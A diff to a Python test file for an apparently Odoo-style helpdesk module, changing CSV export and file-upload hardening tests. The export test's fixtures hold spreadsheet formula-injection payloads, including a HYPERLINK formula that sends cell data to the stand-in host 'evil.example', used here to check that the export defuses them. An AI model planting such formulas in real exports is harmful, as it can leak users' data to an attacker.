@@ -62,7 +62,7 @@ class TestHardeningHttp(HelpdeskLitePortalCase):
         self.customer.name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
         self.ticket.write({'name': '+SUM(1,2)', 'partner_phone': '@cmd', 'partner_name': '-2+3'})
         self._login(self.manager)
-        response = self.url_open(f'/helpdesk_lite/export/tickets.csv?ids={self.ticket.id}')
+        response = self.url_open(f'/helpdesk_lite/export/tickets.csv?ids={self.ticket.id}&header=technical')
         self.assertEqual(response.status_code, 200)
         rows = list(csv.reader(io.StringIO(response.content.decode('utf-8-sig'))))
         header, row = rows[0], rows[1]
@@ -148,7 +148,7 @@ class TestHardeningHttp(HelpdeskLitePortalCase):
         response = self._upload('invoice.exe', EXE)
         self.assertEqual(response.status_code, 400)
         self.assertIn('not an accepted file type', response.json()['error'])
-        self.assertIn('not an accepted file type', self._upload('photo.png', EXE).json()['error'],
+        self.assertIn('its content is not a .png file', self._upload('photo.png', EXE).json()['error'],
                       'the content decides, not the name')
         accepted = self._upload('photo.png', PNG)
         self.assertEqual(accepted.status_code, 200)
